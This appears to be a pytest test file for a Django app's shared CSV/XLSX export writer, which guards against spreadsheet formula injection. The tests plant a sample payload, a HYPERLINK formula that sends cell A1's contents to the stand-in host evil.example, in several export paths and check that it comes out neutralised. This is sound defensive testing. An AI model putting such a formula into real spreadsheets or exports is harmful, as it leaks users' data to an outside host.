"""Issue #20, defect 4: one shared CSV/XLSX writer neutralises spreadsheet formulas, writes German CSV
(semicolon, decimal comma) and XLSX numbers as typed cells; every export uses it."""

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from ikonnekt.core import tabular

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
SRC = Path(__file__).resolve().parents[2] / "src" / "ikonnekt"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_dangerous_text_gets_an_apostrophe(prefix):
    assert tabular.neutralise(prefix + "1+1") == "'" + prefix + "1+1"


def test_harmless_text_is_unchanged():
    assert tabular.neutralise("Saarlouis = Kreisstadt") == "Saarlouis = Kreisstadt"


def test_german_csv_uses_semicolon_and_decimal_comma():
    text = tabular.csv_text([["Gebäude", "kWh"], [EVIL, Decimal("1234.5")], ["x", 2.25]], language="de")
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0] == "Gebäude;kWh"
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""klick"")";1234,5'
    assert lines[2] == "x;2,25"


def test_english_csv_uses_comma_and_decimal_point():
    text = tabular.csv_text([["a", 1.5, -3]], language="en", bom=False)
    assert text == "a,1.5,-3\r\n"  # numbers are numbers, not neutralised text


def sheet_xml(data: bytes, number: int = 1) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(f"xl/worksheets/sheet{number}.xml").decode()


def test_xlsx_text_is_never_a_formula_and_numbers_are_typed():
    wb = tabular.new_workbook()
    ws = wb.active
    tabular.xlsx_append(ws, [EVIL, 1234.5, 2024, dt.date(2025, 3, 1), Decimal("7.25")])
    data = tabular.workbook_bytes(wb)
    assert "<f>" not in sheet_xml(data)
    import openpyxl

    row = next(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows())
    assert row[0].value == EVIL and row[0].data_type == "s" and row[0].quotePrefix
    assert row[1].data_type == "n" and row[1].number_format == "#,##0.00"
    assert row[2].value == 2024 and row[2].number_format == "0"
    assert row[3].is_date and row[3].number_format == "DD.MM.YYYY"
    assert row[4].value == 7.25


@pytest.mark.django_db
def test_energy_report_xlsx_carries_no_formula_from_a_building_name(cast, client_for):
    from ikonnekt.energy.models import Building, EmissionFactorSet, EnergyReport, Meter, Reading

    building = Building.objects.create(
        name=EVIL, use_type="school", reference_area=1000, owner=cast.org_a, created_by=cast.a_admin
    )
    meter = Meter.objects.create(
        building=building, number="Z1", name="Strom", carrier="electricity", unit="kWh"
    )
    for month, value in [(1, 1000), (2, 1310)]:
        Reading.objects.create(
            meter=meter, timestamp=dt.datetime(2025, month, 1, 8, tzinfo=dt.UTC), value=value
        )
    report = EnergyReport.objects.create(
        title="Bericht 2025",
        year=2025,
        factor_set=EmissionFactorSet.objects.get(method="bisko", year=2024),
        owner=cast.org_a,
        created_by=cast.a_admin,
    )
    response = client_for(cast.a_editor).get(reverse("energy:report_xlsx", args=[report.pk]))
    xml = sheet_xml(response.content)
    assert "<f>" not in xml and "HYPERLINK" in xml


@pytest.mark.django_db
def test_audit_csv_neutralises_object_titles(cast, client_for):
    from ikonnekt.core.audit import Actor, AuditAction, record

    record(
        Actor(user=cast.a_admin),
        AuditAction.CREATE,
        cast.org_a,
        owner_organisation=cast.org_a,
        object_repr=EVIL,
    )
    response = client_for(cast.a_admin).get(reverse("core:audit_csv"))
    body = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in body
    assert not re.search(r'(^|;)"?=HYPERLINK', body, re.M)


@pytest.mark.django_db
def test_dms_manifest_csv_neutralises_titles(cast):
    from ikonnekt.core.audit import Actor
    from ikonnekt.documents import actions, export
    from ikonnekt.documents.models import Document

    actions.upload_document(
        Actor(user=cast.a_admin),
        owner_id=cast.org_a.pk,
        name="a.txt",
        data=b"Inhalt",
        title=EVIL,
        extract=False,
    )
    data = export.build_package(Document.objects.all())
    manifest = zipfile.ZipFile(io.BytesIO(data)).read("manifest.csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in manifest
    assert not re.search(r'(^|;)"?=HYPERLINK', manifest, re.M)


def test_every_export_goes_through_the_shared_writer():
    """No module writes CSV with the csv module or fills a worksheet with ``ws.append``."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "tabular.py" or "migrations" in path.parts:
            continue
        text = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(f"{path.relative_to(SRC)}: csv.writer (use core.tabular.CsvWriter)")
        if "Workbook(" in text and re.search(r"\b(ws\d?|sheet|meta|items|keys)\.append\(\[", text):
            offenders.append(f"{path.relative_to(SRC)}: worksheet.append (use core.tabular.xlsx_append)")
    assert not offenders, offenders
